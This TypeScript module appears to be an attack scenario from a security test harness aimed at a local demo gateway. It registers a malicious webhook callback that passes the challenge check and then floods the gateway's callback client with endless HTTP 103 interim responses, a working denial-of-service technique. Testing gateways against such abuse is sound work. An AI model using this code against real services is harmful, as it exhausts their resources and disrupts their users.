import { createServer, type Socket } from 'node:net'
import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { send } from '../../../../deploy/local/demo/partner.ts'
import type { Target } from '../target.ts'

const INTERIM = Buffer.from('HTTP/1.1 103 Early Hints\r\nlink: </a>; rel=preload\r\n\r\n'.repeat(1_000))

/** Sends interim answers for as long as the client reads them. */
function flood(socket: Socket): void {
  const more = () => {
    while (!socket.destroyed && socket.write(INTERIM));
  }
  socket.on('drain', more)
  more()
}

/** Passes the challenge of a callback receiver; answers every later request with endless interim answers. */
function receive(socket: Socket): void {
  let text = ''
  socket.on('error', () => undefined)
  socket.on('data', (chunk: Buffer) => {
    text += chunk.toString('latin1')
    const challenge = /"challenge":"([^"]+)"/.exec(text)?.[1]
    if (challenge) {
      const answer = JSON.stringify({ challenge })
      socket.end(`HTTP/1.1 200 OK\r\ncontent-length: ${answer.length}\r\nconnection: close\r\n\r\n${answer}`)
    } else if (text.includes('\r\n\r\n')) flood(socket)
  })
}

/** Registers receivers for all of the attackers' connections. */
export async function interimAnswers({ gateways, partners }: Target): Promise<void> {
  const server = createServer(receive).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`
  for (const { connection, signing } of partners) {
    const given = { body: { url }, key: `flood-${connection}-${Date.now()}`, within: 20_000 }
    await send(`http://127.0.0.1:${gateways[0]}`, 'PUT', `/properties/${connection}/callback`, signing, given)
  }
}
